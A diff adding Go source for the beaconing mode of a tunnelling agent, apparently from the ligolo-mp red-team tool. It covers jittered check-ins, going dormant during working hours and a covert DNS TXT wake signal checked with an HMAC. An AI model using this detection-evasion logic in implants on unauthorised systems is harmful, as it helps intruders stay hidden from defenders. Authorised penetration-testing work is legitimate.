@@ -0,0 +1,233 @@
+package main
+
+import (
+	"crypto/hmac"
+	"io"
+	"math/rand"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/ttpreport/ligolo-mp-agent/internal/protocol"
+)
+
+// beaconState is the low-and-slow mode. With an interval set, the agent doesn't retry every few seconds: it
+// reconnects once the interval elapsed or when the TXT record of the wake host carries the wake proof. Within
+// its working hours the agent stays dormant whatever the interval
+type beaconState struct {
+	sync.Mutex
+	interval  time.Duration
+	jitter    uint8
+	wakeHost  string
+	wakeKey   []byte
+	wakeCheck time.Duration
+	asleep    bool // the server is about to drop the tunnel on purpose
+	hours     string
+	windows   protocol.WorkingHours
+	changed   chan struct{} // closed when the working hours change
+}
+
+var beacon = beaconState{changed: make(chan struct{})}
+
+// dormantCheck is how long the agent trusts a computed wait, so clock changes and suspends are caught up with
+const dormantCheck = time.Minute
+
+func (b *beaconState) Interval() time.Duration {
+	b.Lock()
+	defer b.Unlock()
+
+	return b.interval
+}
+
+func (b *beaconState) SetInterval(interval time.Duration) {
+	b.Lock()
+	defer b.Unlock()
+
+	b.interval = interval
+}
+
+func (b *beaconState) Jitter() uint8 {
+	b.Lock()
+	defer b.Unlock()
+
+	return b.jitter
+}
+
+func (b *beaconState) SetJitter(jitter uint8) {
+	b.Lock()
+	defer b.Unlock()
+
+	if jitter > 100 {
+		jitter = 100
+	}
+	b.jitter = jitter
+}
+
+func (b *beaconState) WorkingHours() string {
+	b.Lock()
+	defer b.Unlock()
+
+	return b.hours
+}
+
+func (b *beaconState) SetWorkingHours(hours string) error {
+	windows, err := protocol.ParseWorkingHours(hours)
+	if err != nil {
+		return err
+	}
+
+	b.Lock()
+	defer b.Unlock()
+
+	b.hours = hours
+	b.windows = windows
+	close(b.changed)
+	b.changed = make(chan struct{})
+
+	return nil
+}
+
+// Rest blocks for as long as the agent is within its working hours
+func (b *beaconState) Rest() {
+	for {
+		b.Lock()
+		windows := b.windows
+		b.Unlock()
+
+		active, until := windows.Active(time.Now())
+		if !active {
+			return
+		}
+
+		wait := time.Until(until)
+		if wait > dormantCheck {
+			wait = dormantCheck
+		}
+		time.Sleep(wait)
+	}
+}
+
+// Watch closes the session as soon as one of the working hours windows starts, until stop is called
+func (b *beaconState) Watch(session io.Closer) (stop func()) {
+	done := make(chan struct{})
+
+	go func() {
+		for {
+			b.Lock()
+			windows, changed := b.windows, b.changed
+			b.Unlock()
+
+			now := time.Now()
+			if active, _ := windows.Active(now); active {
+				session.Close()
+				return
+			}
+
+			wait := dormantCheck
+			if next := windows.Next(now); !next.IsZero() && next.Sub(now) < wait {
+				wait = next.Sub(now)
+			}
+
+			timer := time.NewTimer(wait)
+			select {
+			case <-timer.C:
+			case <-changed:
+				timer.Stop()
+			case <-done:
+				timer.Stop()
+				return
+			}
+		}
+	}()
+
+	return func() { close(done) }
+}
+
+func (b *beaconState) Update(request protocol.BeaconRequestPacket) {
+	b.Lock()
+	defer b.Unlock()
+
+	b.interval = time.Duration(request.Interval)
+	b.jitter = request.Jitter
+	b.wakeHost = request.WakeHost
+	b.wakeKey = request.WakeKey
+	b.wakeCheck = time.Duration(request.WakeCheck)
+	b.asleep = request.Sleep
+}
+
+// Asleep reports whether the last session ended because the server sent the agent to sleep
+func (b *beaconState) Asleep() bool {
+	b.Lock()
+	defer b.Unlock()
+
+	return b.asleep
+}
+
+// Wait blocks until the agent should connect again, retry is used when it's not beaconing
+func (b *beaconState) Wait(retry time.Duration) {
+	b.Lock()
+	interval, jitter, wakeHost, wakeKey, wakeCheck := b.interval, b.jitter, b.wakeHost, b.wakeKey, b.wakeCheck
+	b.asleep = false
+	b.Unlock()
+
+	if interval <= 0 {
+		time.Sleep(shorten(retry, jitter))
+		return
+	}
+	interval = shorten(interval, jitter)
+
+	deadline := time.Now().Add(interval)
+	for {
+		step := time.Until(deadline)
+		if step <= 0 {
+			return
+		}
+
+		if wakeHost != "" && wakeCheck > 0 && wakeCheck < step {
+			step = wakeCheck
+		}
+		time.Sleep(step)
+
+		if wakeHost != "" && woken(wakeHost, wakeKey) {
+			return
+		}
+	}
+}
+
+// localZone is the offset of local time to UTC in seconds, working hours are in local time
+func localZone() int32 {
+	_, offset := time.Now().Zone()
+	return int32(offset)
+}
+
+// shorten takes a random part of up to jitter percent off d, so check-ins don't form a regular pattern
+func shorten(d time.Duration, jitter uint8) time.Duration {
+	if jitter == 0 {
+		return d
+	}
+
+	return d - time.Duration(rand.Int63n(int64(d)*int64(jitter)/100+1))
+}
+
+// woken checks the wake proof, anyone can answer for the wake host but only the server knows the key
+func woken(host string, key []byte) bool {
+	if len(key) == 0 {
+		return false
+	}
+
+	records, err := net.LookupTXT(host)
+	if err != nil {
+		return false
+	}
+
+	token, _, _ := strings.Cut(host, ".")
+	proof := protocol.WakeProof(key, token)
+	for _, record := range records {
+		if hmac.Equal([]byte(record), []byte(proof)) {
+			return true
+		}
+	}
+
+	return false
+}